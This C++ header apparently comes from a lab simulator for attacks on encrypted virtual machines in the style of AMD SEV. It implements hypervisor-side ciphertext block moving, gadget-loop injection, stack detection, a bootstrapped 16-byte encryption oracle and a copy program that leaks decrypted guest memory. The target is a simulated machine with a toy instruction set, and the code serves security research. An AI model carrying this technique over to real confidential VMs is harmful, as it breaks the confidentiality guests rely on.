#pragma once

// Hypervisor-side attack machinery shared by the scenarios: an event log, a
// block-placement helper over the captured corpus, the two ways of getting a
// regular exit out of the guest (cpuid interception or page-fault ping-pong),
// and the oracle session that grows from a pushed register to a full 16-byte
// encryption oracle.

#include <chrono>
#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <ostream>
#include <set>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "sevlab/block_mover.hpp"
#include "sevlab/chain.hpp"
#include "sevlab/errors.hpp"
#include "sevlab/guest.hpp"
#include "sevlab/machine.hpp"
#include "sevlab/vm.hpp"

namespace sevlab {

/// The attack did not reach its goal (as opposed to being blocked by a mitigation).
struct AttackFailure : Error {
  using Error::Error;
};

// ---------------------------------------------------------------------------
// Event log

struct Step {
  std::uint64_t index = 0;
  std::string kind;
  std::string detail;
};

class EventLog {
 public:
  explicit EventLog(std::ostream* sink = nullptr, bool timestamps = false) : sink_(sink), timestamps_(timestamps) {}

  void event(std::string kind, std::string detail) {
    ++count_;
    if (!sink_) return;
    nlohmann::ordered_json j;
    j["step"] = count_;
    j["kind"] = std::move(kind);
    j["detail"] = std::move(detail);
    if (timestamps_)
      j["ts_ms"] = std::chrono::duration_cast<std::chrono::milliseconds>(
                       std::chrono::system_clock::now().time_since_epoch())
                       .count();
    *sink_ << j.dump() << '\n';
  }

  /// An event that also goes into the report's step list.
  void milestone(const std::string& kind, const std::string& detail) {
    event(kind, detail);
    steps_.push_back({count_, kind, detail});
  }

  std::uint64_t count() const { return count_; }
  const std::vector<Step>& steps() const { return steps_; }

 private:
  std::ostream* sink_;
  bool timestamps_;
  std::uint64_t count_ = 0;
  std::vector<Step> steps_;
};

inline std::string hex_addr(PhysAddr a) {
  char buf[24];
  std::snprintf(buf, sizeof buf, "0x%llx", static_cast<unsigned long long>(a));
  return buf;
}

// ---------------------------------------------------------------------------
// Hypervisor

/// What the attacker holds: the machine handle, the guest's public text and
/// layout, and its belief about the tweak table.
class Hypervisor {
 public:
  Hypervisor(Machine& machine, VMState& vm, const Guest& guest, TweakTable table, EventLog& log,
             VmOptions opt = {1ULL << 20, SyncFlavor::Cpuid})
      : m(machine), vm(vm), guest(guest), log(log), table_(std::move(table)), opt_(opt) {}

  Machine& m;
  VMState& vm;
  const Guest& guest;
  EventLog& log;

  const TweakTable& table() const { return table_; }
  PhysAddr hpa(PhysAddr gpa) const { return m.translate_or_throw(gpa); }

  /// Resumes the guest until its next exit. A halted guest ends the attack.
  ExitEvent run(const GhcbOverride& override_regs = {}) {
    hv_resume(m, vm, override_regs);
    ExitEvent ev = run_until_exit(m, vm, opt_);
    switch (ev.kind) {
      case ExitKind::Sync: log.event("exit", "sync"); break;
      case ExitKind::Fault:
        log.event("exit", std::string("fault ") + to_string(ev.fault.access) + " " + hex_addr(ev.fault.gpa));
        break;
      case ExitKind::Halt:
        log.event("exit", std::string("halt ") + to_string(ev.halt_reason));
        if (ev.halt_reason != HaltReason::Hlt)
          throw AttackFailure(std::string("guest stopped: ") + to_string(ev.halt_reason));
        break;
    }
    return ev;
  }

  // ---- corpus and placement ----------------------------------------------

  /// Captures the corpus from the guest text on first use.
  InjectionSearcher& searcher() {
    if (!searcher_) {
      Corpus c = build_corpus_from_guest(m, guest.text, guest.layout.text);
      capture_ciphertext(m, c);
      log.milestone("corpus", std::to_string(c.size()) + " known blocks captured");
      searcher_ = std::make_unique<InjectionSearcher>(std::make_shared<const Corpus>(std::move(c)), table_);
      for (PhysAddr a : excluded_) searcher_->exclude(a);
    }
    return *searcher_;
  }

  /// Keeps the searcher from using a block that the attack overwrites.
  void consume(PhysAddr gpa, std::size_t len = kBlockSize) {
    for (PhysAddr a = block_floor(gpa); a < gpa + len; a += kBlockSize) {
      excluded_.insert(hpa(a));
      if (searcher_) searcher_->exclude(hpa(a));
    }
  }

  std::optional<MoveSolution> solve(const std::vector<ByteConstraint>& cs, PhysAddr dest_gpa) {
    const std::string key = placement_key(dest_gpa, cs);
    if (auto it = solved_.find(key); it != solved_.end()) return it->second;
    const auto res = searcher().find(cs, dest_gpa, FrameChoice::fixed(page_of(hpa(dest_gpa))));
    if (!res.found()) return std::nullopt;
    solved_[key] = *res.solution;
    return res.solution;
  }

  /// Writes a block satisfying the constraints at dest. Skips the write when
  /// the same constraints were the last thing placed there.
  void place(const PlanBlock& b) {
    const std::string key = placement_key(b.dest, b.constraints);
    if (auto it = last_placed_.find(b.dest); it != last_placed_.end() && it->second == key) return;
    const auto sol = solve(b.constraints, b.dest);
    if (!sol) throw AttackFailure("no corpus block satisfies " + describe(b));
    apply_solution(m, table_, *sol);
    last_placed_[b.dest] = key;
    log.event("move", hex_addr(sol->q) + " -> " + hex_addr(b.dest));
  }

  void place_all(const std::vector<PlanBlock>& bs) {
    for (const auto& b : bs) place(b);
  }

  /// Writes a raw ciphertext block produced elsewhere (an oracle).
  void write_cipher(PhysAddr dest_gpa, const Block& c, const std::string& tag) {
    m.hv_write_block(hpa(dest_gpa), c);
    ++m.metrics().blocks_moved;
    last_placed_[dest_gpa] = tag;
    log.event("write", hex_addr(dest_gpa));
  }

  // ---- permissions --------------------------------------------------------

  void set_exec(PhysAddr gpa, bool on) {
    Perms p = m.npt_entry(page_of(gpa)).perms;
    p.execute = on;
    m.set_npt_perms(page_of(gpa), p);
  }

  void set_write(PhysAddr gpa, bool on) {
    Perms p = m.npt_entry(page_of(gpa)).perms;
    p.write = on;
    m.set_npt_perms(page_of(gpa), p);
  }

  void set_write_all(bool on) {
    for (auto f : m.mapped_gpa_frames()) set_write(f << kPageShift, on);
  }

  static std::string describe(const PlanBlock& b) {
    std::string s = hex_addr(b.dest) + " {";
    for (std::size_t k = 0; k < b.constraints.size(); ++k) {
      char buf[16];
      std::snprintf(buf, sizeof buf, "%s%u:%02x", k ? " " : "", b.constraints[k].offset, b.constraints[k].value);
      s += buf;
    }
    return s + "}";
  }

 private:
  static std::string placement_key(PhysAddr dest, const std::vector<ByteConstraint>& cs) {
    std::string k = std::to_string(dest) + ":";
    for (const auto& c : cs) k += std::to_string(c.offset) + "=" + std::to_string(c.value) + ",";
    return k;
  }

  TweakTable table_;
  VmOptions opt_;
  std::unique_ptr<InjectionSearcher> searcher_;
  std::set<PhysAddr> excluded_;
  std::map<std::string, MoveSolution> solved_;
  std::map<PhysAddr, std::string> last_placed_;
};

// ---------------------------------------------------------------------------
// Sync drivers

enum class DriverKind : std::uint8_t { Auto, Intercept, PageFault };

inline const char* to_string(DriverKind k) {
  switch (k) {
    case DriverKind::Auto: return "auto";
    case DriverKind::Intercept: return "intercept";
    case DriverKind::PageFault: return "pagefault";
  }
  return "?";
}

inline DriverKind parse_driver(const std::string& s) {
  if (s == "auto") return DriverKind::Auto;
  if (s == "intercept") return DriverKind::Intercept;
  if (s == "pagefault") return DriverKind::PageFault;
  throw ValidationError("unknown sync driver '" + s + "'");
}

/// Turns the looping gadget into a stream of sync points. With interception
/// the loop contains a SYNC window. Without it, b0 sits at the end of page
/// one and the windows on page two; execute permission alternates between the
/// pages, so every pass faults once on each page and the page-two fault is the
/// sync point.
class SyncDriver {
 public:
  SyncDriver(Hypervisor& hv, DriverKind kind, PhysAddr b0) : hv_(hv), kind_(resolve(hv, kind)) {
    layout_.b0 = b0;
    layout_.sync_window = kind_ == DriverKind::Intercept;
    if (kind_ == DriverKind::Intercept && !hv.m.flags().interception_enabled)
      throw InterceptionDisabled("sync instruction exits are not intercepted");
    if (kind_ == DriverKind::PageFault && page_base(b0) == page_base(layout_.x(0)))
      throw ValidationError("page-fault driver needs b0 in the last block of its page");
  }

  DriverKind kind() const { return kind_; }
  LoopLayout& layout() { return layout_; }
  const LoopLayout& layout() const { return layout_; }
  std::uint64_t syncs() const { return syncs_; }

  /// Permissions for a freshly installed loop.
  void arm() {
    hv_.set_exec(layout_.page_one(), true);
    if (kind_ == DriverKind::PageFault) hv_.set_exec(layout_.page_two(), false);
  }

  /// Next exit that is not internal to the driver. Sync points come back as
  /// ExitKind::Sync regardless of driver.
  ExitEvent next(const GhcbOverride& override_regs = {}) {
    ExitEvent ev = hv_.run(override_regs);
    if (kind_ == DriverKind::PageFault) {
      for (int guard = 0; ev.kind == ExitKind::Fault && ev.fault.access == AccessKind::Fetch; ++guard) {
        const PhysAddr page = page_base(ev.fault.gpa);
        if (page == layout_.page_two()) {
          hv_.set_exec(layout_.page_two(), true);
          hv_.set_exec(layout_.page_one(), false);
          ev.kind = ExitKind::Sync;
          break;
        }
        if (page != layout_.page_one() || guard > 4) break;
        hv_.set_exec(layout_.page_one(), true);
        hv_.set_exec(layout_.page_two(), false);
        ev = hv_.run();
      }
    }
    if (ev.kind == ExitKind::Sync) ++syncs_;
    return ev;
  }

 private:
  static DriverKind resolve(const Hypervisor& hv, DriverKind k) {
    if (k != DriverKind::Auto) return k;
    return hv.m.flags().interception_enabled ? DriverKind::Intercept : DriverKind::PageFault;
  }

  Hypervisor& hv_;
  DriverKind kind_;
  LoopLayout layout_;
  std::uint64_t syncs_ = 0;
};

// ---------------------------------------------------------------------------
// Oracle session

struct StackLocation {
  PhysAddr gpa = 0;  // stack pointer once the session owns it, 16-byte aligned
  PhysAddr hpa = 0;
  unsigned offset = 0;  // page offset of gpa
  PhysAddr first_push_gpa = 0;
  bool initially_aligned = false;
  bool pop_adjusted = false;
  bool used_diff = false;
};

struct OracleBlock {
  Block cipher;
  PhysAddr hpa = 0;  // where the ciphertext was produced
  PhysAddr gpa = 0;
};

struct SessionOptions {
  DriverKind driver = DriverKind::Auto;
  bool shift_runs = false;
  bool record_trace = false;
};

enum class SessionStage : std::uint8_t { None, Bootstrap4, Bootstrap16, Ready };

inline const char* to_string(SessionStage s) {
  switch (s) {
    case SessionStage::None: return "none";
    case SessionStage::Bootstrap4: return "bootstrap4";
    case SessionStage::Bootstrap16: return "bootstrap16";
    case SessionStage::Ready: return "ready";
  }
  return "?";
}

namespace gadget {
inline Bytes b(std::initializer_list<std::uint8_t> v) { return Bytes(v); }
// Two-byte windows.
inline const Bytes kNop2 = b({0x90, 0x90});
inline const Bytes kNop2Alt = b({0xEB, 0x00});  // jmp +0
inline const Bytes kPushRdi = b({0x55, 0x90});
inline const Bytes kPopR4 = b({0x5C, 0x90});
inline const Bytes kPushR4 = b({0x54, 0x90});
inline const Bytes kClr = b({0x31, 0xF6});      // xor esi, esi
inline const Bytes kShl = b({0xD1, 0xE6});      // shl esi, 1
inline const Bytes kInc = b({0xFF, 0xC6});      // inc esi
inline const Bytes kPush2 = b({0x56, 0x56});
inline const Bytes kPop2 = b({0x5E, 0x5E});
// Four-byte windows.
inline const Bytes kNop4 = b({0x90, 0x90, 0x90, 0x90});
inline const Bytes kClrQ = b({0x48, 0x31, 0xF6, 0x90});
inline const Bytes kShlQ = b({0x48, 0xD1, 0xE6, 0x90});
inline const Bytes kIncQ = b({0x48, 0xFF, 0xC6, 0x90});
inline const Bytes kPushClrQ = b({0x56, 0x48, 0x31, 0xF6});
inline const Bytes kPush1 = b({0x56, 0x90, 0x90, 0x90});
inline const Bytes kPop2Q = b({0x5E, 0x5E, 0x90, 0x90});
inline Bytes shlk(unsigned k) { return b({0x48, 0xC1, 0xE6, static_cast<std::uint8_t>(k)}); }
}  // namespace gadget

/// Minimum room below the stack pointer kept by stack detection.
inline constexpr unsigned kStackRoom = 48;
// The second probe push and the alignment push can each take 8 more bytes.
inline constexpr unsigned kPopTarget = kStackRoom + kBlockSize;

class OracleSession {
 public:
  OracleSession(Hypervisor& hv, SessionOptions opt = {})
      : hv_(hv), opt_(opt), driver_(hv, opt.driver, hv.guest.layout.hook()) {}

  SessionStage stage() const { return stage_; }
  const SyncDriver& driver() const { return driver_; }
  const LoopLayout& layout() const { return driver_.layout(); }
  const StackLocation& stack() const { return stack_; }
  std::uint64_t syncs() const { return driver_.syncs(); }
  std::uint64_t oracle16_syncs() const { return oracle16_syncs_; }
  std::uint64_t oracle16_blocks() const { return oracle16_blocks_; }
  std::size_t chain_violations_seen() const {
    return chain_violations(hv_.vm.trace, layout().controlled_addresses(), layout().b0, layout().end());
  }
  std::size_t traced_instructions() const { return hv_.vm.trace.size(); }

  // ---- bootstrap -----------------------------------------------------------

  /// Takes control of the idling guest, installs the loop, and finds the stack.
  StackLocation detect_stack() {
    if (stage_ != SessionStage::None) return stack_;
    enter_loop();
    const bool masked = hv_.m.flags().sev_es;
    auto first = push_probe();
    stack_.used_diff = masked;
    PhysAddr r7;  // exact stack pointer once known
    if (!masked) {
      stack_.first_push_gpa = first.exact;
      r7 = first.exact;
      if (page_offset(r7) < kPopTarget) {
        const unsigned pops = static_cast<unsigned>((kPopTarget - page_offset(r7) + 7) / 8);
        pop(pops);
        r7 += 8ULL * pops;
      }
    } else {
      // The diff only resolves the 16-byte block; a second push tells which half.
      PhysAddr base = first.block;
      if (page_offset(base) < kPopTarget) {
        unsigned pops = static_cast<unsigned>((kPopTarget - page_offset(base) + 7) / 8);
        pops += pops & 1;
        pop(pops);
        base += 8ULL * pops;
      }
      auto second = push_probe();
      if (second.block == base) {
        r7 = base;  // pointer was base + 8
        stack_.first_push_gpa = first.block + 8;
      } else if (second.block + kBlockSize == base) {
        r7 = base - 8;
        stack_.first_push_gpa = first.block;
      } else {
        throw AttackFailure("detection: second push landed at " + hex_addr(second.block));
      }
    }
    stack_.initially_aligned = (stack_.first_push_gpa + 8) % kBlockSize == 0;
    if (r7 % kBlockSize) {
      round(gadget::kPushR4, gadget::kNop2);
      r7 -= 8;
    }
    stack_.gpa = r7;
    stack_.hpa = hv_.hpa(r7 - kBlockSize) + kBlockSize;
    stack_.offset = static_cast<unsigned>(page_offset(r7));
    stage_ = SessionStage::Bootstrap4;
    hv_.log.milestone("stack", "stack pointer " + hex_addr(stack_.gpa) + (stack_.pop_adjusted ? " after pop adjustment" : ""));
    return stack_;
  }

  /// Guest-encrypted block [v, 0, v, 0] (32-bit lanes) at the production slot.
  OracleBlock oracle4(std::uint32_t v) {
    if (stage_ == SessionStage::None) detect_stack();
    if (stage_ != SessionStage::Bootstrap4 && stage_ != SessionStage::Bootstrap16)
      throw ValidationError("the 4-byte oracle is only available before widening");
    using namespace gadget;
    if (pending_pop_) {
      round(kPop2, kClr);
      pending_pop_ = false;
    } else if (!clean_) {
      round(kNop2, kClr);
    }
    clean_ = false;
    for (int i = std::bit_width(v) - 1; i >= 0; --i) round(kShl, (v >> i) & 1 ? kInc : kNop2);
    round(kPush2, kNop2);
    pending_pop_ = true;
    return harvest();
  }

  /// Ciphertext of an arbitrary block at the production slot.
  OracleBlock oracle16(const Block& plain) {
    widen();
    using namespace gadget;
    const std::uint64_t before = driver_.syncs();
    if (pending_pop_) {
      round(kPop2Q, kClrQ);
      pending_pop_ = false;
    } else if (!clean_) {
      round(kNop4, kClrQ);
    }
    load64(plain.hi());
    round(kPushClrQ, kNop4);
    load64(plain.lo());
    round(kPush1, kNop4);
    pending_pop_ = true;
    clean_ = false;
    OracleBlock out = harvest();
    oracle16_syncs_ += driver_.syncs() - before;
    ++oracle16_blocks_;
    return out;
  }

  /// Places guest-visible plaintext at a block of guest memory.
  void write_block(PhysAddr gpa, const Block& plain) {
    require_block_aligned(gpa);
    const PhysAddr dest = hv_.hpa(gpa);
    const PhysAddr src = production_hpa();
    const Block v = plain ^ tweak_delta(hv_.table(), src, dest);
    const OracleBlock ob = oracle16(v);
    hv_.write_cipher(gpa, relocated_cipher(hv_.m.mode(), hv_.table(), ob.cipher, src, dest), "oracle16");
  }

  /// Moves the oracle loop from 2-byte to 4-byte windows.
  void widen() {
    if (stage_ == SessionStage::Ready) return;
    if (stage_ == SessionStage::None) detect_stack();
    stage_ = SessionStage::Bootstrap16;
    using namespace gadget;
    std::vector<Bytes> a_variants = {kClrQ, kShlQ, kPushClrQ, kPush1, kPop2Q, kNop4};
    std::vector<Bytes> b_variants = {kNop4, kIncQ, kClrQ};
    if (opt_.shift_runs)
      for (unsigned k = 2; k < 64; ++k) a_variants.push_back(shlk(k));
    LoopLayout wide = layout();
    wide.width = 4;
    for (unsigned which = 0; which < 2; ++which)
      for (const auto& v : which == 0 ? a_variants : b_variants) {
        const PlanBlock y = wide.window_blocks(which, v).back();
        if (y_cache_.count(key_of(y))) continue;
        y_cache_[key_of(y)] = oracle_y_block(y);
      }
    // Switch at a sync point: the first wide round pops the last 4-byte
    // result and clears the 64-bit register.
    driver_.layout().width = 4;
    set_window(0, kPop2Q);
    set_window(1, kClrQ);
    expect_sync();
    pending_pop_ = false;
    clean_ = true;
    stage_ = SessionStage::Ready;
    hv_.vm.trace.clear();
    hv_.vm.record_trace = opt_.record_trace;
    hv_.log.milestone("oracle16", "widened to 4-byte windows using " + std::to_string(y_cache_.size()) + " oracle blocks");
  }

  /// Decrypts guest memory by injecting a copy program that writes the range
  /// into a page the guest shares with the hypervisor.
  Bytes decrypt(PhysAddr gpa, std::size_t len) {
    if (len == 0) return {};
    widen();
    const GuestLayout& gl = hv_.guest.layout;
    install_copy_program();
    Bytes out;
    out.reserve(len);
    PhysAddr cur = gpa;
    const PhysAddr end = gpa + len;
    while (cur < end) {
      const PhysAddr lo = cur & ~PhysAddr{7};
      const PhysAddr hi = std::min<PhysAddr>(lo + kPageSize, (end + 7) & ~PhysAddr{7});
      const Bytes chunk = copy_out(lo, (hi - lo) / 8);
      const std::size_t skip = cur - lo;
      const std::size_t take = std::min<std::size_t>(end - cur, chunk.size() - skip);
      out.insert(out.end(), chunk.begin() + static_cast<std::ptrdiff_t>(skip),
                 chunk.begin() + static_cast<std::ptrdiff_t>(skip + take));
      cur += take;
    }
    hv_.log.milestone("decrypt", std::to_string(len) + " bytes at " + hex_addr(gpa) + " via " + hex_addr(gl.scratch));
    return out;
  }

  PhysAddr production_gpa() const { return stack_.gpa - kBlockSize; }
  PhysAddr production_hpa() const { return stack_.hpa - kBlockSize; }

 private:
  struct PushObservation {
    PhysAddr block = 0;  // guest block that changed
    PhysAddr exact = 0;  // exact push address when faults are not masked
  };

  void enter_loop() {
    Hypervisor& hv = hv_;
    const LoopLayout& l = layout();
    // Catch the guest in its idle loop, then build the gadget loop around it.
    hv.set_exec(l.page_one(), false);
    const ExitEvent ev = hv.run();
    if (ev.kind != ExitKind::Fault || ev.fault.access != AccessKind::Fetch || page_base(ev.fault.gpa) != l.page_one())
      throw AttackFailure("guest did not reach the idle hook");
    hv.consume(l.b0);
    hv.consume(l.page_two(), kPageSize);
    hv.place_all(l.fixed_blocks());
    set_window(0, gadget::kNop2);
    set_window(1, gadget::kNop2);
    driver_.arm();
    expect_sync();
    hv.log.milestone("loop", std::string("gadget loop at ") + hex_addr(l.b0) + " driven by " + to_string(driver_.kind()));
  }

  ExitEvent expect_sync() {
    const ExitEvent ev = driver_.next();
    if (ev.kind != ExitKind::Sync) {
      std::string what = to_string(ev.kind);
      if (ev.kind == ExitKind::Fault) what += std::string(" ") + to_string(ev.fault.access) + " " + hex_addr(ev.fault.gpa);
      throw AttackFailure("expected a sync point, got " + what);
    }
    return ev;
  }

  void set_window(unsigned which, const Bytes& content) {
    auto blocks = layout().window_blocks(which, content);
    PlanBlock& x = blocks.front();
    if (!hv_.solve(x.constraints, x.dest) && content[0] == kNop && content[1] == kNop) {
      // jmp +0 does the same job when the corpus has no double NOP for this slot.
      x.constraints = constraints_at(14, gadget::kNop2Alt);
    }
    hv_.place(x);
    const PlanBlock& y = blocks.back();
    if (layout().width == 2) {
      hv_.place(y);
    } else {
      auto it = y_cache_.find(key_of(y));
      if (it == y_cache_.end()) throw AttackFailure("no oracle block for window " + Hypervisor::describe(y));
      hv_.write_cipher(y.dest, it->second, key_of(y));
    }
  }

  ExitEvent round(const Bytes& a, const Bytes& b) {
    set_window(0, a);
    set_window(1, b);
    return expect_sync();
  }

  void pop(unsigned n) {
    for (unsigned k = 0; k < n; ++k) round(gadget::kPopR4, gadget::kNop2);
    stack_.pop_adjusted = n > 0;
  }

  PushObservation push_probe() {
    set_window(0, gadget::kPushRdi);
    set_window(1, gadget::kNop2);
    hv_.set_write_all(false);
    const ExitEvent ev = driver_.next();
    hv_.set_write_all(true);
    if (ev.kind != ExitKind::Fault || ev.fault.access != AccessKind::Write)
      throw AttackFailure("detection: the push did not fault");
    const PhysAddr page = page_base(ev.fault.gpa);
    const PhysAddr host = hv_.hpa(page);
    const Bytes before = hv_.m.hv_read_phys(host, kPageSize);
    expect_sync();
    PushObservation o;
    if (!hv_.m.flags().sev_es) {
      o.exact = ev.fault.gpa;
      o.block = block_floor(o.exact);
      return o;
    }
    const Bytes after = hv_.m.hv_read_phys(host, kPageSize);
    std::vector<PhysAddr> changed;
    for (std::size_t off = 0; off < kPageSize; off += kBlockSize)
      if (!std::equal(before.begin() + static_cast<std::ptrdiff_t>(off), before.begin() + static_cast<std::ptrdiff_t>(off + kBlockSize),
                      after.begin() + static_cast<std::ptrdiff_t>(off)))
        changed.push_back(page + off);
    if (changed.size() != 1)
      throw AttackFailure("detection: " + std::to_string(changed.size()) + " blocks changed in the faulting page");
    o.block = changed.front();
    hv_.log.event("diff", "push landed in " + hex_addr(o.block));
    return o;
  }

  OracleBlock harvest() {
    OracleBlock out;
    out.gpa = production_gpa();
    out.hpa = production_hpa();
    out.cipher = hv_.m.hv_read_block(out.hpa);
    return out;
  }

  void load64(std::uint64_t x) {
    using namespace gadget;
    if (!opt_.shift_runs) {
      for (int i = std::bit_width(x) - 1; i >= 0; --i) round(kShlQ, (x >> i) & 1 ? kIncQ : kNop4);
      return;
    }
    int prev = -1;
    for (int i = std::bit_width(x) - 1; i >= 0; --i) {
      if (!((x >> i) & 1)) continue;
      const int gap = prev < 0 ? 1 : prev - i;
      round(gap == 1 ? kShlQ : shlk(static_cast<unsigned>(gap)), kIncQ);
      prev = i;
    }
    if (prev > 1) round(shlk(static_cast<unsigned>(prev)), kNop4);
    else if (prev == 1) round(kShlQ, kNop4);
  }

  static std::string key_of(const PlanBlock& b) {
    std::string k = std::to_string(b.dest) + ":";
    for (const auto& c : b.constraints) k += std::to_string(c.value) + ",";
    return k;
  }

  /// A Y block (4 controlled bytes at offset 0) from the 4-byte oracle.
  Block oracle_y_block(const PlanBlock& y) {
    std::uint32_t want = 0;
    for (const auto& c : y.constraints) want |= static_cast<std::uint32_t>(c.value) << (8 * c.offset);
    const PhysAddr dest = hv_.hpa(y.dest);
    const PhysAddr src = production_hpa();
    const std::uint32_t e = want ^ tweak_delta(hv_.table(), src, dest).unit();
    const OracleBlock ob = oracle4(e);
    return relocated_cipher(hv_.m.mode(), hv_.table(), ob.cipher, src, dest);
  }

  void install_copy_program() {
    if (program_installed_) return;
    const GuestLayout& gl = hv_.guest.layout;
    const LoopLayout& l = layout();
    using guest_detail::hex16;
    const PhysAddr prog = l.end();
    const PhysAddr reentry = l.x(0) + 14;
    std::string body =
        "  load r5, " + hex16(gl.copy_args()) + "\n"
        "  load r6, " + hex16(gl.copy_args() + 8) + "\n"
        "  load r1, " + hex16(gl.copy_args() + 16) + "\n"
        "  setc shared, r6\n"
        "copy:\n"
        "  movq r0, [r5]\n"
        "  movq [r6], r0\n"
        "  add r5, 8\n"
        "  add r6, 8\n"
        "  dec r1\n"
        "  jnz copy\n"
        "  store r1, " + hex16(gl.copy_done()) + "\n";
    const std::size_t head = guest_detail::program(body).size();
    const auto disp = static_cast<std::int64_t>(reentry) - static_cast<std::int64_t>(prog + head + 2);
    body += "  jmp " + std::to_string(disp) + "\n";
    Bytes code = guest_detail::program(body);
    code.resize((code.size() + kBlockSize - 1) / kBlockSize * kBlockSize, kNop);
    if (page_base(prog + code.size() - 1) != l.page_two()) throw AttackFailure("copy program does not fit on the loop page");
    for (std::size_t off = 0; off < code.size(); off += kBlockSize)
      write_block(prog + off, Block::from_span(std::span<const std::uint8_t>(code.data() + off, kBlockSize)));
    program_ = prog;
    program_installed_ = true;
  }

  /// Runs the copy program once for `qwords` qwords at src and returns the
  /// hypervisor's view of the shared page.
  Bytes copy_out(PhysAddr src, std::uint64_t qwords) {
    const GuestLayout& gl = hv_.guest.layout;
    const LoopLayout& l = layout();
    write_block(gl.copy_args(), Block::from_halves(src, gl.scratch));
    write_block(gl.copy_args() + kBlockSize, Block::from_halves(qwords, 0));
    set_window(0, gadget::kNop4);
    set_window(1, gadget::kNop4);
    const auto jump = [&](PhysAddr to) {
      const auto d = static_cast<std::int32_t>(static_cast<std::int64_t>(to) - static_cast<std::int64_t>(l.b0 + 2));
      return PlanBlock{l.b0, LoopLayout::jmp_block(d), BlockRole::Jmp};
    };
    hv_.place(jump(program_));
    hv_.set_write(gl.copy_done(), false);
    ExitEvent ev;
    for (int guard = 0;; ++guard) {
      ev = driver_.next();
      if (ev.kind != ExitKind::Sync || guard > 4) break;
    }
    hv_.set_write(gl.copy_done(), true);
    if (ev.kind != ExitKind::Fault || ev.fault.access != AccessKind::Write || page_base(ev.fault.gpa) != page_base(gl.copy_done()))
      throw AttackFailure("copy program did not signal completion");
    Bytes page;
    page.reserve(qwords * 8);
    const PhysAddr host = hv_.hpa(gl.scratch);
    for (std::size_t off = 0; off < qwords * 8; off += kBlockSize) {
      const Block b = hv_.m.hv_decrypt_own(host + off);
      page.insert(page.end(), b.bytes.begin(), b.bytes.end());
    }
    page.resize(qwords * 8);
    // Back to the loop: the program's final jump re-enters it at the first window.
    hv_.place(l.fixed_blocks().front());
    clean_ = false;
    expect_sync();
    return page;
  }

  Hypervisor& hv_;
  SessionOptions opt_;
  SyncDriver driver_;
  SessionStage stage_ = SessionStage::None;
  StackLocation stack_;
  bool pending_pop_ = false;
  bool clean_ = false;
  std::map<std::string, Block> y_cache_;
  std::uint64_t oracle16_syncs_ = 0;
  std::uint64_t oracle16_blocks_ = 0;
  bool program_installed_ = false;
  PhysAddr program_ = 0;
};

}  // namespace sevlab
